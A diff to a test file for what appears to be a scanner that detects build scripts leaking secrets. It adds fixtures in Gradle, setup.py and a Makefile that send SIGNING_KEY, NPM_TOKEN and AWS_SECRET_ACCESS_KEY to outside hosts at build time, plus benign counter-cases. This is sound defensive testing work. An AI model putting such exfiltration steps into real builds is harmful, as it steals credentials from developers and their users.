@@ -127,6 +127,22 @@ setup(name="pkg", ext_modules=[Extension("pkg._speedups", ["src/speedups.c"])])`
     ).toBeNull();
   });
 
+  it('reads a secret put into the URL a build script fetches as sent: a GET carries its query (critical, as a POST body is)', () => {
+    const gradle = buildFinding(added('build.gradle.kts', 'tasks.register("prepare") {\n    doLast {\n        java.net.URL("https://collect.buildstats.dev/x?k=" + System.getenv("SIGNING_KEY")).readText()\n    }\n}'));
+    expect(gradle).toMatchObject({ severity: 'critical', line: 3, title: 'Gradle build script sends credentials or the environment to a host at build time' });
+    expect(buildFinding(added('setup.py', 'import os\nimport urllib.request\nfrom setuptools import setup\nurllib.request.urlopen(f"https://stats.pkgmetrics.net/i?t={os.environ[\'NPM_TOKEN\']}")\nsetup(name="x")'))).toMatchObject({ severity: 'critical', line: 4 });
+    expect(buildFinding(added('Makefile', 'build:\n\tgo build ./...\n\tcurl -s "https://collector.telemetry-hub.org/?k=$(AWS_SECRET_ACCESS_KEY)" >/dev/null'))).toMatchObject({ severity: 'critical', line: 3 });
+  });
+
+  it('a token in the URL of its own service, in a header, to a local host, or a variable that is no secret, is not a secret sent', () => {
+    expect(buildFinding(added('Makefile', 'vendor:\n\tcurl -fsSL -o x.sh "https://raw.githubusercontent.com/acme/private/main/x.sh?token=$(GITHUB_TOKEN)"'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'fetch:\n\tcurl -fsSL -H "PRIVATE-TOKEN: $(CI_JOB_TOKEN)" "https://gitlab.acme.io/api/v4/projects/1/packages/generic/x/1.0/x.tgz" -o x.tgz'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'smoke:\n\tcurl -s "http://localhost:8080/health?token=$(ADMIN_TOKEN)"'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'dl:\n\tcurl -fsSL https://dl.tools.io/t.tgz -o $(OUT_DIR)/t.tgz && echo $(BUILD_TOKEN) > /dev/null'))).toBeNull();
+    expect(buildFinding(added('build.gradle.kts', 'val rel = java.net.URL("https://api.github.com/repos/acme/x/releases?access_token=" + System.getenv("GH_TOKEN")).readText()'))).toMatchObject({ severity: 'medium' });
+    expect(buildFinding(added('setup.py', 'import os\nimport urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve("https://downloads.vendorsdk.com/sdk.tgz?v=" + os.environ.get("SDK_VERSION", "1"), "sdk.tgz")\nsetup(name="x")'))).toMatchObject({ severity: 'medium' });
+  });
+
   it('reports an extconf.rb that curls a binary and runs it, and not a plain mkmf one', () => {
     expect(
       buildFinding(
